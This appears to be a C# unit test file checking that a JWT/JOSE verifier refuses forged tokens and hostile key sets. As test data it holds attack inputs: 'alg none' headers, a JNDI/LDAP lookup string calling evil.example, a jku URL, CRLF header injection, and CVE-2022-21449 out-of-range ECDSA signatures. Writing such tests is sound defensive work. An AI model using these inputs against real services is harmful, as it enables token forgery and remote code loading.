using System.Security.Cryptography;
using System.Text;
using Shouldly;
using Xunit;

namespace Hexabase.Portal.Access.Sso.Jose;

/// <summary>Forged tokens and key sets of the known families of attacks, beyond what <see cref="CompactJwsTest"/> holds.</summary>
public sealed class TokenAttackTest
{
    private const string Payload = """{"sub":"ann"}""";
    private const string Good = """{"alg":"RS256","kid":"r1","typ":"JWT"}""";
    private static readonly TokenForge Forge = new();
    private static readonly JwkSet Keys = TokenForge.Keys(TokenForge.Set(Forge.RsaJwk(), Forge.EcJwk()));
    private static readonly byte[] P256Order = Convert.FromHexString("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551");

    /// <summary>Headers over a right signature of the right key.</summary>
    [Theory]
    [InlineData("""{"alg":" none"}""", "jose.alg.unknown")]
    [InlineData("""{"alg":"none\u0000"}""", "jose.alg.unknown")]
    [InlineData("""{"alg":"NONE","kid":"r1"}""", "jose.alg.none")]
    [InlineData("""{"alg":"RS256 ","kid":"r1"}""", "jose.alg.unknown")]
    [InlineData("""{"alg":"RS256\u0000","kid":"r1"}""", "jose.alg.unknown")]
    [InlineData("""{"alg":"\u0052S256","kid":"r1","crit":["b64"],"b64":false}""", "jose.crit")]
    [InlineData("""{"alg":"RS256","kid":"r1","crit":"exp"}""", "jose.crit")]
    [InlineData("""{"alg":"RS256","kid":"r1","crit":null}""", "jose.crit")]
    [InlineData("""{"alg":"RS256","kid":"r1","b64":true}""", "jose.b64")]
    [InlineData("""{"alg":"RS256","kid":"r1","jwk":null}""", "jose.key.embedded")]
    [InlineData("""{"alg":"RS256","kid":"r1","\u006aku":"https://evil.example"}""", "jose.key.embedded")]
    [InlineData("""{"alg":"RS256","kid":["r1"]}""", "jose.malformed")]
    [InlineData("""{"alg":"RS256","kid":null}""", "jose.malformed")]
    [InlineData("""{"alg":"RS256","kid":{"kid":"r1"}}""", "jose.malformed")]
    [InlineData("""{"alg":"RS256","kid":"R1"}""", "jose.key.unknown")]
    [InlineData("""{"alg":"RS256","kid":"r1 "}""", "jose.key.unknown")]
    [InlineData("""{"alg":"RS256","kid":"r1\u0000"}""", "jose.key.unknown")]
    [InlineData("""{"alg":"RS256","kid":"r1\r\nX-Evil: 1"}""", "jose.key.unknown")]
    [InlineData("""{"alg":"RS256","kid":"${jndi:ldap://evil.example/a}"}""", "jose.key.unknown")]
    [InlineData("""{"alg":"RS256","kid":"https://evil.example/keys/r1"}""", "jose.key.unknown")]
    [InlineData("""{"alg":"RS256","kid":"r1","kid":"r1"}""", "jose.malformed")]
    [InlineData("""{"alg":"RS256","kid":"r1","x":{"a":1,"a":1}}""", "jose.malformed")]
    [InlineData("""{"alg":"RS256","kid":"r1","typ":"dpop+jwt"}""", "jose.typ")]
    [InlineData("""{"alg":"RS256","kid":"r1","typ":"secevent+jwt"}""", "jose.typ")]
    [InlineData("""{"alg":"RS256","kid":"r1","typ":"JWT, at+jwt"}""", "jose.typ")]
    [InlineData("""{"alg":"RS256","kid":"r1","typ":null}""", "jose.typ")]
    [InlineData("""{"alg":"RS256","kid":"r1","cty":""}""", "jose.cty")]
    [InlineData("""{"alg":"dir","enc":"A128GCM"}""", "jose.alg.unknown")]
    [InlineData("""{"alg":"RSA-OAEP","enc":"A256GCM","kid":"r1"}""", "jose.alg.unknown")]
    [InlineData("""{"alg":"HS256","kid":"e1"}""", "jose.alg.symmetric")]
    [InlineData("""{"alg":256,"kid":"r1"}""", "jose.malformed")]
    [InlineData("""{"ALG":"RS256","kid":"r1"}""", "jose.alg.unknown")]
    [InlineData(""" {"alg":"RS256","kid":"r1"} x""", "jose.malformed")]
    [InlineData("""{"alg":"RS256","kid":"r1"}{"alg":"none"}""", "jose.malformed")]
    [InlineData("""/* */{"alg":"RS256","kid":"r1"}""", "jose.malformed")]
    [InlineData("\uFEFF{\"alg\":\"RS256\",\"kid\":\"r1\"}", "jose.malformed")]
    [InlineData("{\"alg\":\"RS256\",\"kid\":\"r1\"}\0", "jose.malformed")]
    [InlineData("{'alg':'RS256','kid':'r1'}", "jose.malformed")]
    [InlineData("\"RS256\"", "jose.malformed")]
    public void HostileHeader_IsRefused(string header, string code) => Refused(Forge.Rs256(Payload, header), code);

    /// <summary>The certificate that a token brings is looked at by nobody: what it was signed with counts.</summary>
    [Fact]
    public void CertificateOfTheAttacker_DoesNotCount()
    {
        using var evil = RSA.Create(2048);
        using var certificate = new System.Security.Cryptography.X509Certificates.CertificateRequest("CN=evil", evil, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1).CreateSelfSigned(TokenForge.Now, TokenForge.Now.AddDays(1));
        foreach (var header in new[] { $$"""{"alg":"RS256","kid":"r1","x5c":["{{Convert.ToBase64String(certificate.RawData)}}"]}""", $$"""{"alg":"RS256","x5c":["{{Convert.ToBase64String(certificate.RawData)}}"]}""", """{"alg":"RS256","x5t":"AAAA"}""" })
            Refused(TokenForge.Sign(header, Payload, d => evil.SignData(d, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1)), "jose.signature.wrong");
    }

    /// <summary>The families of CVE-2022-21449: R or S of zero, of the curve's order, beyond it; halves swapped.</summary>
    [Fact]
    public void EllipticSignatureOutOfRange_IsRefused()
    {
        byte[] zero = new byte[32], one = [.. new byte[31], 1], full = [.. Enumerable.Repeat((byte)0xFF, 32)];
        foreach (var (r, s) in new[] { (zero, zero), (zero, one), (one, zero), (one, one), (P256Order, P256Order), (P256Order, one), (one, P256Order), (P256Order, zero), (full, full) })
            Refused(TokenForge.Sign("""{"alg":"ES256","kid":"e1"}""", Payload, _ => [.. r, .. s]), "jose.signature.wrong");
        Refused(TokenForge.Sign("""{"alg":"ES256","kid":"e1"}""", Payload, d => [.. Signed(d)[32..], .. Signed(d)[..32]]), "jose.signature.wrong");
        Refused(TokenForge.Sign("""{"alg":"ES256","kid":"e1"}""", Payload, d => [.. Signed(d), .. Signed(d)]), "jose.signature.wrong");

        static byte[] Signed(byte[] data) => Forge.Ec.SignData(data, HashAlgorithmName.SHA256);
    }

    [Fact]
    public void EllipticKeyOfAnotherCurve_IsRefused()
    {
        using var p384 = ECDsa.Create(ECCurve.NamedCurves.nistP384);
        var keys = TokenForge.Keys(TokenForge.Set(TokenForge.EcJwk(p384, "e1", "P-384")));
        TokenForge.Verify(TokenForge.Sign("""{"alg":"ES256","kid":"e1"}""", Payload, d => p384.SignData(d, HashAlgorithmName.SHA256)), keys).Refusal!.Code.ShouldBe("jose.key.mismatch");
        TokenForge.Verify(TokenForge.Sign("""{"alg":"ES384","kid":"e1"}""", Payload, d => p384.SignData(d, HashAlgorithmName.SHA256)), keys).Refusal!.Code.ShouldBe("jose.signature.wrong");
        TokenForge.Verify(TokenForge.Sign("""{"alg":"ES512","kid":"e1"}""", Payload, d => p384.SignData(d, HashAlgorithmName.SHA512)), keys).Refusal!.Code.ShouldBe("jose.key.mismatch");
    }

    /// <summary>Signatures that hold for other paddings, hashes and lengths than the header says.</summary>
    [Fact]
    public void RsaSignatureOfAnotherKind_IsRefused()
    {
        Refused(TokenForge.Sign(Good, Payload, d => Forge.Rsa.SignData(d, HashAlgorithmName.SHA256, RSASignaturePadding.Pss)), "jose.signature.wrong");
        Refused(TokenForge.Sign(Good, Payload, d => Forge.Rsa.SignData(d, HashAlgorithmName.SHA384, RSASignaturePadding.Pkcs1)), "jose.signature.wrong");
        Refused(TokenForge.Sign(Good, Payload, d => Forge.Rsa.SignData(d, HashAlgorithmName.SHA1, RSASignaturePadding.Pkcs1)), "jose.signature.wrong");
        Refused(TokenForge.Sign("""{"alg":"PS256","kid":"r1"}""", Payload, d => Forge.Rsa.SignData(d, HashAlgorithmName.SHA512, RSASignaturePadding.Pss)), "jose.signature.wrong");
        Refused(TokenForge.Sign("""{"alg":"PS384","kid":"r1"}""", Payload, d => Forge.Rsa.SignData(d, HashAlgorithmName.SHA256, RSASignaturePadding.Pss)), "jose.signature.wrong");
        Refused(TokenForge.Sign(Good, Payload, _ => new byte[256]), "jose.signature.wrong");
        Refused(TokenForge.Sign(Good, Payload, _ => [.. new byte[255], 1]), "jose.signature.wrong");
        Refused(TokenForge.Sign(Good, Payload, _ => Forge.Rsa.ExportParameters(false).Modulus!), "jose.signature.wrong");
        Refused(TokenForge.Sign(Good, Payload, d => [.. Forge.Rsa.SignData(d, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1), 0]), "jose.signature.wrong");
        // Encrypted instead of signed, and the hash alone with its padding.
        Refused(TokenForge.Sign(Good, Payload, d => Forge.Rsa.Encrypt(SHA256.HashData(d), RSAEncryptionPadding.Pkcs1)), "jose.signature.wrong");
    }

    /// <summary>Other texts of the same bytes, and other forms of a token than the compact one.</summary>
    [Fact]
    public void OtherSpellingsOfAToken_AreRefused()
    {
        var good = Forge.Rs256(Payload);
        var parts = good.Split('.');
        foreach (var bad in new[]
        {
            good.Replace('-', '+').Replace('_', '/') + "=", $"{parts[0]}=.{parts[1]}.{parts[2]}", $"{parts[0]}.{parts[1]}==.{parts[2]}", $"{parts[0]}\n.{parts[1]}.{parts[2]}", $"{parts[0]} .{parts[1]}.{parts[2]}",
            good.Replace(".", "%2E", StringComparison.Ordinal), good.Replace('.', ','), good + "..", "." + good, good + "." + parts[1], $"{parts[0]}.{parts[1]}.{parts[2]}.{parts[2]}", $"Bearer {good}", "\uFEFF" + good, good + "\0", good + "#", $"\"{good}\"",
            $$"""{"protected":"{{parts[0]}}","payload":"{{parts[1]}}","signature":"{{parts[2]}}"}""", $$"""{"payload":"{{parts[1]}}","signatures":[{"protected":"{{parts[0]}}","signature":"{{parts[2]}}"}]}""",
            $"{parts[0]}.{parts[1]}.{Trailing(parts[2])}", $"{Trailing(parts[0])}.{parts[1]}.{parts[2]}", new string('.', 5_000), new string('.', CompactJws.MaxChars),
        }) Refused(bad, null);

        // The unused bits behind the last byte set.
        static string Trailing(string part)
        {
            const string alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
            return part.Length % 4 == 0 ? part + "A" : part[..^1] + alphabet[alphabet.IndexOf(part[^1], StringComparison.Ordinal) ^ 1];
        }
    }

    [Fact]
    public void DeepOrLargeOrUnreadableClaims_AreRefused()
    {
        foreach (var payload in new[]
        {
            string.Concat(Enumerable.Repeat("{\"a\":", 500)) + "1" + new string('}', 500), "{\"a\":" + new string('[', 5_000) + new string(']', 5_000) + "}", "\uFEFF" + Payload, Payload + "\0", Payload + Payload, "{\"sub\":\"\\ud800\"}", "{\"\\ud800\":1}",
            "{\"sub\":\"ann\",}", "{\"exp\":1e400}", "{\"exp\":-1e400}", "{\"exp\":NaN}", "{\"exp\":Infinity}", "{\"exp\":0x10}", "{\"exp\":01}", "true", "1", "\"ann\"", "eyJhbGciOiJub25lIn0.e30.", "{\"sub\":\"ann\",\"\\u0073ub\":\"eve\"}", "{sub:\"ann\"}",
        }) Refused(Forge.Rs256(payload), "jose.malformed");
        Refused(TokenForge.Sign($$"""{"alg":"RS256","kid":"r1","x":"{{new string('x', 5_000)}}"}""", Payload, _ => [1]), "jose.malformed");
        Refused(Forge.Rs256($$"""{"sub":"{{new string('a', 70_000)}}"}"""), "jose.size");
    }

    /// <summary>A key set that mixes good keys with ones that must not count: only the good ones do.</summary>
    [Fact]
    public void SetWithHostileKeys_LetsOnlyTheGoodOnesCount()
    {
        using var evil = RSA.Create(2048);
        using var small = RSA.Create(1024);
        string[] hostile =
        [
            TokenForge.RsaJwk(evil, "r1", ""","use":"enc" """), TokenForge.RsaJwk(evil, "r1", ""","key_ops":["sign"]"""), TokenForge.RsaJwk(evil, "r1", ""","key_ops":[]"""), TokenForge.RsaJwk(evil, "r1", ""","key_ops":"verify" """),
            TokenForge.RsaJwk(evil, "r1", ""","use":"sig2" """), TokenForge.RsaJwk(evil, "r1", ""","use":7"""), TokenForge.RsaJwk(evil, "r1", ""","alg":"none" """), TokenForge.RsaJwk(evil, "r1", ""","alg":"HS256" """), TokenForge.RsaJwk(evil, "r1", ""","k":"AAAA" """),
            TokenForge.RsaJwk(evil, "r1", ""","p":"AAAA" """), TokenForge.RsaJwk(small), """{"kty":"oct","kid":"r1","k":"c2VjcmV0","alg":"HS256"}""", """{"kty":"RSA","kid":"r1","n":"AQAB","e":"AQAB"}""", """{"kty":["RSA"],"kid":"r1"}""", """{"kty":"rsa","kid":"r1"}""",
        ];
        var keys = TokenForge.Keys(TokenForge.Set([.. hostile, Forge.RsaJwk()]));
        keys.Keys.Count.ShouldBe(1);
        TokenForge.Verify(Forge.Rs256(Payload), keys).Refusal.ShouldBeNull();
        TokenForge.Verify(TokenForge.Sign(Good, Payload, d => evil.SignData(d, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1)), keys).Refusal!.Code.ShouldBe("jose.signature.wrong");
        TokenForge.Verify(Forge.Rs256(Payload, """{"alg":"RS256"}"""), TokenForge.Keys(TokenForge.Set(Forge.RsaJwk(), TokenForge.RsaJwk(evil, "r2")))).Refusal!.Code.ShouldBe("jose.kid.missing");
        TokenForge.Verify(Forge.Rs256(Payload), TokenForge.Keys(TokenForge.Set(Forge.RsaJwk(extra: ""","alg":"PS256" """)))).Refusal!.Code.ShouldBe("jose.key.mismatch");
        JwkSet.Parse(Encoding.UTF8.GetBytes(TokenForge.Set(Forge.RsaJwk()) + new string(' ', JwkSet.MaxBytes))).Refusal!.Code.ShouldBe("jwks.malformed");
    }

    /// <summary>Headers of the large providers, over right signatures.</summary>
    [Theory]
    [InlineData("""{"typ":"JWT","alg":"RS256","x5t":"nOo3ZDrODXEK1jKWhXslHR_KXEg","kid":"r1"}""")]
    [InlineData("""{"alg":"RS256","kid":"r1","typ":"jwt"}""")]
    [InlineData("""{"alg":"RS256","kid":"r1","typ":"application/JWT"}""")]
    [InlineData("""{"alg":"RS256","kid":"r1"}""")]
    [InlineData("""{"alg":"RS256"}""")]
    [InlineData("""{"alg":"RS256","kid":"r1","x5c":["MIIB"],"x5t":"a","x5t#S256":"b","pi.atm":"1","ver":2}""")]
    [InlineData("""{ "alg" : "RS256" ,  "kid" : "r1" }""")]
    [InlineData("""{"alg":"RS256","kid":"\u0072\u0031"}""")]
    public void HeaderOfALargeProvider_IsAccepted(string header) => TokenForge.Verify(Forge.Rs256(Payload, header), Keys).Refusal.ShouldBeNull();

    [Theory]
    [InlineData("3Fa-_b64+/=key==")]
    [InlineData("キー1")]
    [InlineData("0")]
    [InlineData("a b:c/d?e#f")]
    public void AnyNameOfAKey_IsAcceptedWhereItIsPublished(string kid)
    {
        var keys = TokenForge.Keys(TokenForge.Set(Forge.RsaJwk(kid, ""","use":"sig","alg":"RS256","x5c":["MIIB"],"x5t":"a","issuer":"https://login.example" """), Forge.EcJwk()));
        TokenForge.Verify(Forge.Rs256(Payload, $$"""{"alg":"RS256","kid":"{{kid}}"}"""), keys).Refusal.ShouldBeNull();
    }

    private static void Refused(string token, string? code)
    {
        var refusal = TokenForge.Verify(token, Keys).Refusal.ShouldNotBeNull(token[..Math.Min(200, token.Length)]);
        if (code is not null) refusal.Code.ShouldBe(code);
        refusal.Message.ShouldNotBeEmpty();
        refusal.Change.ShouldNotBeEmpty();
    }
}
